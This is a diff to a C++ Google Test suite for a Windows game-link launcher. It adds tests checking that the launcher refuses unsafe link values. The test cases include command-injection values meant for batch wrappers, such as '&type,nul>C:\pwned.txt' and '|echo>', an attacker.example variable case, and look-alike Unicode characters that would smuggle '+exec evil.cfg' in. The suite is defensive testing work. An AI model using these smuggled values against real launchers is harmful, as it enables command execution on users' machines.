@@ -11,6 +11,7 @@
 #include <gtest/gtest.h>
 
 #include <algorithm>
+#include <filesystem>
 #include <optional>
 #include <stdexcept>
 #include <string>
@@ -25,6 +26,13 @@ const std::wstring spacedFolder = L"C:\\Program Files\\Dunmarch Games\\Quarrion"
 const std::wstring spacedGame = spacedFolder + L"\\quarrion.exe";
 // A game in a folder made in C:\, where every local user may create files beside its path.
 const std::wstring driveFolderGame = L"C:\\Games\\Dunmarch Games\\Quarrion Live\\bin\\quarrion.exe";
+// Wrapper scripts in the game's place, which process creation hands to cmd.exe.
+const std::wstring batchFolder = L"C:\\Games\\Batch";
+const std::wstring batchGame = batchFolder + L"\\start.bat";
+const std::wstring spacedBatchFolder = L"C:\\Program Files\\Dunmarch Games\\Batch";
+const std::wstring spacedBatchGame = spacedBatchFolder + L"\\start.bat";
+// What a command smuggled in by a link writes.
+const std::wstring smuggledFile = L"C:\\pwned.txt";
 const std::wstring shellFolder = L"C:\\windows"; // as a browser would start it: anywhere
 const std::wstring firstLine = L"There was an issue starting quarrion, either it isn't installed, "
                                L"or you clicked on an invalid link";
@@ -45,6 +53,8 @@ struct Started {
     std::wstring commandLine;
     std::wstring folder;
     std::wstring program = folder + L"\\quarrion.exe"; // the file that must run, nothing planted
+    bool sameInCodePage = true;      // a game reading the ANSI line gets the very same text
+    int showCommand = SW_SHOWNORMAL; // what the game is given; cmd.exe passes none on
 };
 
 struct Reported {
@@ -90,6 +100,9 @@ class Launch : public testing::TestWithParam<LaunchCase> {
         InstallStandInGame(game);
         InstallStandInGame(spacedGame);
         InstallStandInGame(driveFolderGame);
+        InstallBatchStandIn(batchGame);
+        InstallBatchStandIn(batchFolder + L"\\START.CMD");
+        InstallBatchStandIn(spacedBatchGame);
     }
     void SetUp() override {
         for (const auto& decoy : GetParam().decoys) {
@@ -106,6 +119,7 @@ class Launch : public testing::TestWithParam<LaunchCase> {
     }
     void TearDown() override {
         RemoveMachineKey(gameKey);
+        ::DeleteFileW(smuggledFile.c_str());
         for (const auto& decoy : GetParam().decoys) {
             ::DeleteFileW(decoy.c_str());
         }
@@ -115,6 +129,7 @@ class Launch : public testing::TestWithParam<LaunchCase> {
 TEST_P(Launch, StartsTheGameOrReports) {
     const LaunchCase& c = GetParam();
     const ShellRun run = RunShell(c.argumentText, shellFolder);
+    EXPECT_FALSE(std::filesystem::exists(smuggledFile)) << "a command of the link's ran";
 
     if (const auto* started = std::get_if<Started>(&c.outcome)) {
         EXPECT_EQ(run.exitCode, 0u);
@@ -124,7 +139,12 @@ TEST_P(Launch, StartsTheGameOrReports) {
             << testing::PrintToString(run.game->commandLine);
         EXPECT_EQ(run.game->folder, started->folder);
         EXPECT_EQ(run.game->program, started->program);
-        EXPECT_EQ(run.game->showCommand, SW_SHOWNORMAL);
+        EXPECT_EQ(run.game->argv0, started->program);
+        if (started->sameInCodePage) {
+            EXPECT_TRUE(run.game->ansiCommandLine == run.game->commandLine)
+                << testing::PrintToString(run.game->ansiCommandLine);
+        }
+        EXPECT_EQ(run.game->showCommand, started->showCommand);
         return;
     }
     const auto& reported = std::get<Reported>(c.outcome);
@@ -159,12 +179,12 @@ INSTANTIATE_TEST_SUITE_P(
                    Started{L"\"" + spacedGame + L"\" +connect h +pass p", spacedFolder},
                    BlankCutDecoys(spacedGame)},
         // Planted programs at "C:\Program.exe" and "C:\Program Files\Dunmarch.exe" never run
-        // in the game's place, and the game's command line stays unquoted.
+        // in the game's place, and the game gets its own path whole, quoted.
         LaunchCase{"UnquotedPathWithBlanks", Text(spacedGame), L"quarrion://h/p",
-                   Started{spacedGame + L" +connect h +pass p", spacedFolder, spacedGame},
+                   Started{L"\"" + spacedGame + L"\" +connect h +pass p", spacedFolder, spacedGame},
                    BlankCutDecoys(spacedGame)},
         LaunchCase{"UnquotedPathInAFolderOfTheDrive", Text(driveFolderGame), L"quarrion://h/p",
-                   Started{driveFolderGame + L" +connect h +pass p",
+                   Started{L"\"" + driveFolderGame + L"\" +connect h +pass p",
                            driveFolderGame.substr(0, driveFolderGame.rfind(L'\\')),
                            driveFolderGame},
                    BlankCutDecoys(driveFolderGame)},
@@ -178,9 +198,14 @@ INSTANTIATE_TEST_SUITE_P(
                    Text(L"C:\\Games\\Dunmarch Games\\Quarrion Beta\\bin\\quarrion.exe"),
                    L"quarrion://h", Reported{L"h", L""},
                    BlankCutDecoys(L"C:\\Games\\Dunmarch Games\\Quarrion Beta\\bin\\quarrion.exe")},
-        LaunchCase{"PathWithoutFolderInheritsOurs", Text(L"stand_in_game.exe"), L"quarrion://h",
-                   Started{L"stand_in_game.exe +connect h", shellFolder,
-                           ProgramFolder() + L"stand_in_game.exe"}},
+        // A relative path would be searched for, first in the browser's own folder.
+        LaunchCase{"RelativePathIsNotSearchedFor",
+                   Text(L"quarrion.exe"),
+                   L"quarrion://h/p",
+                   Reported{L"h", L"p"},
+                   {shellFolder + L"\\quarrion.exe"}},
+        LaunchCase{"PathFromTheDrivesRootIsNotSearchedFor",
+                   Text(L"\\Games\\Quarrion\\quarrion.exe"), L"quarrion://h", Reported{L"h", L""}},
         // Wine cuts a longer line than Windows starts to 32,767 units with the NUL, so the
         // launcher cannot tell a line that fills the limit from a cut one and refuses it.
         LaunchCase{"LauncherLineBelowTheLimit", Text(game), LinkForShellLineOf(32'765),
@@ -192,7 +217,49 @@ INSTANTIATE_TEST_SUITE_P(
             "NonAsciiAndAstralUnits", Text(game),
             L"quarrion://s\x00E9rv\x4E2D\xD83C\xDFAE/p\x00E4ss\xD83D\xDE00",
             Started{game + L" +connect s\x00E9rv\x4E2D\xD83C\xDFAE +pass p\x00E4ss\xD83D\xDE00",
-                    gameFolder}},
+                    gameFolder, game, false}},
+        // Latin-1 letters are in the code page: an ANSI game reads them exactly.
+        LaunchCase{"Latin1Password", Text(game), L"quarrion://h/p\x00E4ss\x00F6\x00DF\x00E9",
+                   Started{game + L" +connect h +pass p\x00E4ss\x00F6\x00DF\x00E9", gameFolder}},
+        // No interpreter reads an .exe game's line: these reach it exactly.
+        LaunchCase{"ExeGameGetsWhatAnInterpreterWouldActOn", Text(game),
+                   L"quarrion://h(1)/a&b%USERNAME%!x!^c,d=e|f<g>",
+                   Started{game + L" +connect h(1) +pass a&b%USERNAME%!x!^c,d=e|f<g>", gameFolder}},
+        LaunchCase{
+            "BatchGame", Text(batchGame), L"quarrion://127.0.0.1:27960/secret",
+            Started{L"\"" + batchFolder + L"\\quarrion.exe\" +connect 127.0.0.1:27960 +pass secret",
+                    batchFolder, batchFolder + L"\\quarrion.exe", true, -1}},
+        LaunchCase{"BatchGameCommandInTheServer", Text(batchGame),
+                   L"quarrion://srv&type,nul>C:\\pwned.txt/pw",
+                   Reported{L"srv&type,nul>C:\\pwned.txt", L"pw"}},
+        LaunchCase{"BatchGameVariableInThePassword", Text(batchGame),
+                   L"quarrion://attacker.example/%USERNAME%",
+                   Reported{L"attacker.example", L"%USERNAME%"}},
+        LaunchCase{"QuotedBatchGamePipe", Text(L"\"" + spacedBatchGame + L"\""),
+                   L"quarrion://h/p|echo>C:\\pwned.txt", Reported{L"h", L"p|echo>C:\\pwned.txt"}},
+        LaunchCase{"UnquotedBatchGameCommandInThePassword", Text(spacedBatchGame),
+                   L"quarrion://h/p&echo>C:\\pwned.txt", Reported{L"h", L"p&echo>C:\\pwned.txt"}},
+        LaunchCase{"CommandScriptInCapitalsWithTrailingDot", Text(batchFolder + L"\\START.CMD."),
+                   L"quarrion://h>C:\\pwned.txt", Reported{L"h>C:\\pwned.txt", L""}},
+        // Best fit turns these into "+", ";", a blank and a quote for a game reading code page
+        // 1252.
+        LaunchCase{"LookAlikeOptionInThePassword", Text(game),
+                   L"quarrion://1.2.3.4/pw\xFF0B"
+                   L"exec\x3000"
+                   L"evil.cfg",
+                   Reported{L"1.2.3.4", L"pw\xFF0B"
+                                        L"exec\x3000"
+                                        L"evil.cfg"}},
+        LaunchCase{"LookAlikeSemicolonInTheServer", Text(game), L"quarrion://h\x037Equit/p",
+                   Reported{L"h\x037Equit", L"p"}},
+        LaunchCase{"LookAlikeQuoteInTheServer", Text(game), L"quarrion://h\xFF02\x2002x/p",
+                   Reported{L"h\xFF02\x2002x", L"p"}},
+        LaunchCase{"ServerLikeAnOption", Text(game), L"quarrion://-dedicated/pw",
+                   Reported{L"-dedicated", L"pw"}},
+        LaunchCase{"PasswordLikeAnOption", Text(game), L"quarrion://h/-console",
+                   Reported{L"h", L"-console"}},
+        LaunchCase{"PasswordLikeAResponseFile", Text(game), L"quarrion://h/@C:\\x.txt",
+                   Reported{L"h", L"@C:\\x.txt"}},
         // RegRead hands back an expandable string expanded, and that is what the game gets.
         LaunchCase{"ValueExpandable",
                    Text(L"%SystemDrive%\\Games\\Quarrion\\quarrion.exe", REG_EXPAND_SZ),
@@ -240,6 +307,25 @@ TEST(WithoutScriptingShell, ReportsWithEmptyFields) {
     ASSERT_TRUE(run.box);
     EXPECT_EQ(run.box->text, firstLine + L"\r\nServer: \r\nPass: ");
     EXPECT_FALSE(run.game);
+}
+
+// Runs only in the Cyrillic code page (LC_ALL=ru_RU.UTF-8, tests/e2e/CMakeLists.txt): its letters
+// reach a game that reads the ANSI line exactly, and best fit still cannot smuggle an option in.
+TEST(InCyrillicCodePage, ReadsLettersExactlyAndRefusesLookAlikes) {
+    ASSERT_EQ(::GetACP(), 1251u) << "not the Cyrillic code page";
+    const std::wstring password = L"\x043F\x0430\x0440\x043E\x043B\x044C";
+    InstallStandInGame(game);
+    SetInstallPath(game);
+    const ShellRun cyrillic = RunShell(L"quarrion://h/" + password, shellFolder);
+    const ShellRun lookAlike = RunShell(L"quarrion://h/p\xFF0B"
+                                        L"exec\x3000x",
+                                        shellFolder);
+    RemoveMachineKey(gameKey);
+    ASSERT_TRUE(cyrillic.game);
+    EXPECT_TRUE(cyrillic.game->ansiCommandLine == game + L" +connect h +pass " + password)
+        << testing::PrintToString(cyrillic.game->ansiCommandLine);
+    EXPECT_TRUE(lookAlike.box);
+    EXPECT_FALSE(lookAlike.game);
 }
 
 // The longest link that reaches the program (its own command line at the platform's limit of
